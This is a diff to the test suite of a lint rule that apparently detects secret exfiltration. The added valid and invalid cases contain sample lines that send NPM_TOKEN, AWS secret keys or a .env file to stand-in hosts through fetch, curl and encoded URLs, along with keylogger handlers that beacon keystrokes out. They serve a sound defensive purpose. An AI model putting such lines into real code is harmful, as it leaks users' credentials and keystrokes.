@@ -10,6 +10,10 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    // names that the policy knows to hold no secret
+    { code: 'fetch("https://x.example-service.com/?a=" + btoa(process.env.NPM_TOKEN));', settings: { allowedNames: ['NPM_*'] } },
+    { code: 'curl -d "$NPM_TOKEN" https://in.example-service.com/x\n', filename: 'run.sh', settings: { allowedNames: ['NPM_TOKEN'] } },
+    { ...given('curl -d "$T" https://in.example-service.com/x'), settings: { allowedNames: ['NPM_TOKEN'] } },
     { code: 'function close(e) { if (e.key === \'Escape\') hide(); } document.addEventListener(\'keydown\', close);' },
     { code: '$(document).on(\'keydown\', (e) => { if (e.ctrlKey && e.key === \'s\') save(); });' },
     { code: '$(document).on(\'keydown\', onKey);' },
@@ -177,6 +181,9 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'fetch("https://x.example-service.com/?a=" + btoa(process.env.NPM_TOKEN));', settings: { allowedNames: ['OTHER_TOKEN'] }, errors: [{ messageId: 'encoded' }] },
+    { code: 'curl -d "$NPM_TOKEN" https://in.example-service.com/x\n', filename: 'run.sh', settings: { allowedNames: ['OTHER_TOKEN'] }, errors: [{ messageId: 'sent' }] },
+    { code: 'import fs from "node:fs"; fetch("https://x.example-service.com", { method: "POST", body: fs.readFileSync(".env") });', settings: { allowedNames: ['*'] }, errors: [{ messageId: 'sent' }] },
     // handlers with a name, and those of jQuery
     { code: 'let b = \'\'; function log(e) { b += e.key; navigator.sendBeacon(\'https://x.example-service.com/k\', b); } document.addEventListener(\'keydown\', log);', errors: [{ messageId: 'credential' }] },
     { code: '$(document).on(\'keypress\', (e) => $.post(\'https://x.example-service.com/k\', { k: e.key }));', errors: [{ messageId: 'credential' }] },
@@ -276,7 +283,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://webhook.site/abc", { headers: { "x-data": process.env.NPM_TOKEN } });', errors: [{ messageId: 'hostile' }] },
     { code: 'fetch("https://webhook.site/abc", { method: "POST", body: process.env.NPM_TOKEN });', errors: [{ messageId: 'hostile' }] },
     { code: 'fetch("http://203.0.113.7/", { headers: { authorization: process.env.NPM_TOKEN } });', errors: [{ messageId: 'hostile' }] },
-    { code: 'fetch("https://t.example-service.com", { method: "POST", body: JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY }) });', errors: [{ messageId: 'several' }] },
+    { code: 'fetch("https://t.example-service.com", { method: "POST", body: JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY }) });', errors: [{ messageId: 'several', data: { name: 'NPM_TOKEN, AWS_SECRET_ACCESS_KEY', sink: 'fetch()' } }] },
     { code: 'const { NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY } = process.env; fetch("https://t.example-service.com", { method: "POST", body: JSON.stringify({ NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY }) });', errors: [{ messageId: 'several' }] },
     { code: 'fetch("https://t.example-service.com", { method: "POST", body: btoa(process.env.NPM_TOKEN) });', errors: [{ messageId: 'encoded' }] },
     { code: 'fetch("https://t.example-service.com/?d=" + Buffer.from(process.env.NPM_TOKEN).toString("base64"));', errors: [{ messageId: 'encoded' }] },
